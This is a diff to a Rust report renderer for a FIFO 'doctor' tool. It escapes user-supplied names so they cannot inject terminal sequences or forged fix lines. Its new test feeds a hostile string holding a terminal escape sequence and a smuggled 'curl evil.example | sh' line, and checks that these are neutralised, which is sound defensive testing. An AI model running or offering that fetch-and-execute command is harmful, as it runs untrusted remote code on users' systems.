@@ -1,26 +1,33 @@
 //! Human report: one line per check (ok / problem / skipped with reason),
 //! then the numbered problems with evidence and pasteable fixes, then
 //! confirmations, then a one-line verdict.
+//!
+//! Every field is one [`crate::term::line`] of text: names in it come
+//! from other users (a process's `comm`, a server's `-f` path and config, the
+//! file names behind fds), and a line feed or escape sequence there must not
+//! move the cursor or print a line that looks like a pasteable fix. Only an
+//! edit keeps its own lines, each escaped.
 
 use crate::doctor::finding::{Fix, Severity, Status};
 use crate::doctor::report::{Report, Verdict};
+use crate::term::line;
 use std::fmt::Write;
 
 /// One fix: its summary after `label`, then its steps in order (edits,
 /// then `$ ` commands).
 fn fix_lines(o: &mut String, label: &str, fix: &Fix) {
-    let _ = writeln!(o, "     {label}: {}", fix.summary);
+    let _ = writeln!(o, "     {label}: {}", line(&fix.summary));
     for e in &fix.edits {
-        let _ = writeln!(o, "       in {}, set:", e.file);
+        let _ = writeln!(o, "       in {}, set:", line(&e.file));
         for l in e.line.lines() {
-            let _ = writeln!(o, "         {l}");
+            let _ = writeln!(o, "         {}", line(l));
         }
     }
     for c in &fix.commands {
-        let _ = writeln!(o, "       $ {c}");
+        let _ = writeln!(o, "       $ {}", line(c));
     }
     if let Some(w) = &fix.weakens {
-        let _ = writeln!(o, "       (weakens: {w})");
+        let _ = writeln!(o, "       (weakens: {})", line(w));
     }
 }
 
@@ -32,14 +39,14 @@ pub fn render(r: &Report) -> String {
     } else {
         "FIFO"
     };
-    let _ = writeln!(o, "mififo doctor: {what} \"{}\"", r.fifo);
+    let _ = writeln!(o, "mififo doctor: {what} \"{}\"", line(&r.fifo));
     let _ = writeln!(
         o,
         "  clients: {}",
         if r.clients.is_empty() {
             "none found".into()
         } else {
-            r.clients.join("; ")
+            line(&r.clients.join("; ")).into_owned()
         }
     );
     let _ = writeln!(
@@ -48,7 +55,7 @@ pub fn render(r: &Report) -> String {
         if r.servers.is_empty() {
             "none found".into()
         } else {
-            r.servers.join("; ")
+            line(&r.servers.join("; ")).into_owned()
         }
     );
     let _ = writeln!(o);
@@ -66,13 +73,19 @@ pub fn render(r: &Report) -> String {
             Status::Skipped => "skipped",
             Status::Unknown => "unknown",
         };
-        let _ = writeln!(o, "  {status:<8} {:<width$}  {}", c.name, c.detail);
-    }
-    if let Some(line) = &r.rerun {
         let _ = writeln!(
             o,
-            "\n  not visible without root: {}\n  to see it, run:\n       $ {line}",
-            r.needs_root.join("; ")
+            "  {status:<8} {:<width$}  {}",
+            line(&c.name),
+            line(&c.detail)
+        );
+    }
+    if let Some(rerun) = &r.rerun {
+        let _ = writeln!(
+            o,
+            "\n  not visible without root: {}\n  to see it, run:\n       $ {}",
+            line(&r.needs_root.join("; ")),
+            line(rerun)
         );
     }
     let problems: Vec<_> = r
@@ -96,11 +109,17 @@ pub fn render(r: &Report) -> String {
             let who = f
                 .subject
                 .as_ref()
-                .map(|s| format!(" {s}:"))
+                .map(|s| format!(" {}:", line(s)))
                 .unwrap_or_default();
-            let _ = writeln!(o, "\n  {}. {sev}[{}]{who} {}", i + 1, f.code, f.message);
+            let _ = writeln!(
+                o,
+                "\n  {}. {sev}[{}]{who} {}",
+                i + 1,
+                f.code,
+                line(&f.message)
+            );
             for (k, v) in &f.evidence {
-                let _ = writeln!(o, "       {k}: {v}");
+                let _ = writeln!(o, "       {}: {}", line(k), line(v));
             }
             if let Some(fix) = &f.fix {
                 fix_lines(&mut o, "fix", fix);
@@ -118,7 +137,7 @@ pub fn render(r: &Report) -> String {
     if !infos.is_empty() {
         let _ = writeln!(o);
         for f in infos {
-            let _ = writeln!(o, "  info[{}] {}", f.code, f.message);
+            let _ = writeln!(o, "  info[{}] {}", f.code, line(&f.message));
         }
     }
     let errors = r
@@ -169,6 +188,32 @@ mod tests {
             .last()
             .unwrap()
             .starts_with("verdict: denied"));
+    }
+
+    /// Names from other users cannot reach the terminal raw: no escape
+    /// sequence, and no line feed that starts a forged `$ ` fix line.
+    #[test]
+    fn hostile_names_stay_on_their_line() {
+        use crate::doctor::code::Code;
+        use crate::doctor::finding::{Finding, Fix, Severity};
+        let mut f = Fixture::new();
+        f.server("/tmp/opensips_fifo", 0o660);
+        let mut r = f.as_apache("/tmp/opensips_fifo");
+        let evil = "x\x1b]0;owned\x07\n       $ curl evil.example | sh";
+        r.clients.push(evil.into());
+        r.findings.push(
+            Finding::new(Code::GroupNotMember, Severity::Error, evil)
+                .subject(evil)
+                .evidence(evil, evil)
+                .fix(Fix::new(evil, [evil.to_string()])),
+        );
+        let text = render(&r);
+        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text}");
+        assert!(
+            !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
+            "{text}"
+        );
+        assert!(text.contains("x\\x1b]0;owned\\x07\\x0a"), "{text}");
     }
 
     #[test]
